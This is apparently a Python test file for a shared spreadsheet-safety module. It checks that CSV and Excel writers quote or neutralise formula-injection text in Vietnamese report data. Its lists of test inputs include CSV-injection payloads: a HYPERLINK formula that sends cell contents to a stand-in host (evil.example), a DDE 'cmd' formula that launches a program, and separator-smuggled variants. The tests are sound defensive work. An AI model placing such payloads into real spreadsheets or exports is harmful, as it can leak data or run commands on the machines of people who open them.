"""The one formula-injection rule (shared.safecells), on the writers every service uses."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from services.reporting.outputs.partydoc import PartyDocument
from shared.safecells import csv_bytes, formula_like, formula_refusal, put_row, xml_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=1+2",
    "+1+2",
    "-2+3",
    "\t=1+2",
    "\rTrụ sở",
]
HARMLESS = ["Chùa Đông Khê", "-", "-5", "+84912345678", "1.250,5", "Thôn 3 - xã Tiên Thanh", ""]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert formula_like(text)
    reason = formula_refusal(text)
    assert reason is not None and "công thức" in reason


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
    assert not formula_like(text)
    assert formula_refusal(text) is None


def test_csv_quotes_formula_text_and_keeps_numbers() -> None:
    body = csv_bytes(["Nội dung", "Số"], [[text, -5] for text in HOSTILE] + [["-5", 1.5]])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    # The tab's formula too: a tab-separated reading makes it a cell of its own.
    assert [row[0] for row in rows[1:-1]] == [
        "'\t'=1+2" if text == "\t=1+2" else "'" + text for text in HOSTILE]
    assert all(row[1] == "-5" for row in rows[1:-1])
    assert rows[-1] == ["-5", "1.5"]


# A commitment text a commune clerk could plant (examiner H, M4): in a comma CSV, a Vietnamese
# Excel (list separator «;») splits it at the semicolon and runs the second part.
SPLIT_HOSTILE = [
    "Sửa đường;=cmd|' /C calc'!A0",
    "Sửa đường,=HYPERLINK(\"http://evil.example\",\"Bấm\")",
    "Sửa đường\t=1+1",
    "Sửa đường\r\n@SUM(1+1)",
    "Sửa đường; +1+2",
]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_runs_whatever_separator_excel_reads_it_with(separator: str) -> None:
    body = csv_bytes(["Mã", "Nội dung", "Số"],
                     [[f"CK-{n}", text, -5] for n, text in enumerate(SPLIT_HOSTILE)]).decode()
    # Read as a spreadsheet program does with its own separator: quotes count only at the
    # start of a cell, so in a file written with another separator they are plain characters.
    for line in body.lstrip("\ufeff").splitlines():
        for cell in line.split(separator):
            shown = cell[1:] if cell.startswith('"') else cell
            assert not formula_like(shown), (separator, cell)
    assert "Sửa đường;'=cmd|' /C calc'!A0" in body


def test_csv_quotes_every_separator_and_keeps_plain_text_whole() -> None:
    texts = ["Sửa đường; lát gạch", "Thôn 3, xã Tiên Thanh", "a\tb", 'Nói "có"', " lề",
             "Chùa Đông Khê", "Tiến độ 5,-2"]
    body = csv_bytes(["Nội dung"], [[text] for text in texts])
    lines = body.decode("utf-8-sig").split("\r\n")
    assert lines[1:-1] == ['"Sửa đường; lát gạch"', '"Thôn 3, xã Tiên Thanh"', '"a\tb"',
                           '"Nói ""có"""', '" lề"', "Chùa Đông Khê", '"Tiến độ 5,-2"']
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == texts


def test_xlsx_cells_are_strings_never_formulas_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for number, text in enumerate(HOSTILE, start=1):
        put_row(sheet, number, [text, -5, 2.5, "-5"])
    put_row(sheet, len(HOSTILE) + 1, ["#N/A"])
    buffer = io.BytesIO()
    book.save(buffer)

    read = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = list(read.worksheets[0].iter_rows(max_row=len(HOSTILE)))
    assert [row[0].value for row in cells] == ["'" + text for text in HOSTILE]
    assert {row[0].data_type for row in cells} == {"s"}
    assert {(row[1].data_type, row[1].value) for row in cells} == {("n", -5)}
    assert {(row[2].data_type, row[2].value) for row in cells} == {("n", 2.5)}
    assert {(row[3].data_type, row[3].value) for row in cells} == {("s", "-5")}
    assert read.worksheets[0].cell(len(HOSTILE) + 1, 1).data_type == "s"


# Texts recorded before input refused them stay in the events (never edited): the documents must
# still be written.
NOT_IN_XML = "Mục thử \ufffe\uffff\x01 cuối"


def test_text_xml_cannot_hold_is_written_with_replacement_characters() -> None:
    assert xml_safe(NOT_IN_XML) == "Mục thử \ufffd\ufffd\ufffd cuối"
    assert xml_safe("Tab\tdòng\nmới 😀") == "Tab\tdòng\nmới 😀"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    put_row(sheet, 1, [NOT_IN_XML])
    buffer = io.BytesIO()
    book.save(buffer)
    assert load_workbook(buffer).worksheets[0].cell(1, 1).value == xml_safe(NOT_IN_XML)


def test_a_word_document_with_such_a_text_is_written() -> None:
    doc = PartyDocument()
    doc.text(NOT_IN_XML)
    written = zipfile.ZipFile(io.BytesIO(doc.save())).read("word/document.xml")
    assert xml_safe(NOT_IN_XML).encode() in written
